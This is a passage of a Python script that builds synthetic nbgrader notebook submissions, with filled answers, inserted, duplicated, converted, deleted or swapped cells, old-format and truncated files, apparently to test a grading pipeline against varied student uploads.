        to_markdown=("q1_1_tensors",), extra_cells=EXTRA_CELLS),
}


# ------------------------------------------------------------------ building the files


def _grade_id(cell: NotebookNode) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb: NotebookNode, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if _grade_id(cell) == grade_id:
            return i
    raise KeyError(f"no cell with grade_id {grade_id!r} in the notebook")


def build_notebook(variant: Variant, release: NotebookNode, student_id: str) -> NotebookNode:
    nb = copy.deepcopy(release)
    nb.metadata["student"] = student_id  # as real files differ: distinct students, distinct contents
    for grade_id, source in variant.answers.items():
        nb.cells[_index(nb, grade_id)].source = source
    # New cells get ids derived from their place, so that the files are the same on every run.
    for grade_id, source in variant.extra_cells.items():
        nb.cells.insert(_index(nb, grade_id) + 1, nbformat.v4.new_code_cell(source, id=f"after-{grade_id}"))
    for grade_id in variant.duplicate:
        original = nb.cells[_index(nb, grade_id)]
        copied = nbformat.v4.new_code_cell(original.source, id=f"copy-of-{grade_id}",
                                           metadata=copy.deepcopy(original.metadata))
        nb.cells.insert(_index(nb, grade_id) + 1, copied)
    for grade_id in variant.to_markdown:
        i = _index(nb, grade_id)
        nb.cells[i] = nbformat.v4.new_markdown_cell(nb.cells[i].source, id=nb.cells[i].id,
                                                  metadata=nb.cells[i].metadata)
    for grade_id in variant.delete:
        del nb.cells[_index(nb, grade_id)]
    if variant.swap:
        i, j = (_index(nb, grade_id) for grade_id in variant.swap)
        nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]
    return nb


def render(variant: Variant, release: NotebookNode, student_id: str) -> str:
    """The file's text, as the student uploaded it."""
    if variant.file_text is not None:
        return variant.file_text
    nb = build_notebook(variant, release, student_id)
    text = nbformat.writes(nbformat.convert(nb, 3) if variant.nbformat == 3 else nb)
    return text[: len(text) // 2] if variant.truncate else text


def write_submissions(out_dir: Path, students: list[tuple[str, str]]) -> list[Path]:
    """Write <student id>.ipynb for each (student id, variant name)."""
    release = nbformat.read(RELEASE_NOTEBOOK, as_version=4)
    out_dir.mkdir(parents=True, exist_ok=True)
    paths = []
    for student_id, name in students:
        path = out_dir / f"{student_id}.ipynb"
        path.write_text(render(VARIANTS[name], release, student_id), encoding="utf-8")
        paths.append(path)
    return paths


def make_examples(out_dir: Path) -> list[Path]:
    """The example batch: one file per variant, the variant's name as student id."""
    return write_submissions(Path(out_dir), [(name, name) for name in VARIANTS])


def make_batch(out_dir: Path, n: int) -> list[Path]:
    """n submissions cycling through the variants, with distinct student ids and file names."""
    names = list(VARIANTS)
    return write_submissions(Path(out_dir), [(f"s{i:04d}_{names[i % len(names)]}", names[i % len(names)])
                                             for i in range(n)])


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(f"usage: {sys.argv[0]} OUT_DIR")
    written = make_examples(Path(sys.argv[1]))
    print(f"wrote {len(written)} submissions to {sys.argv[1]}")
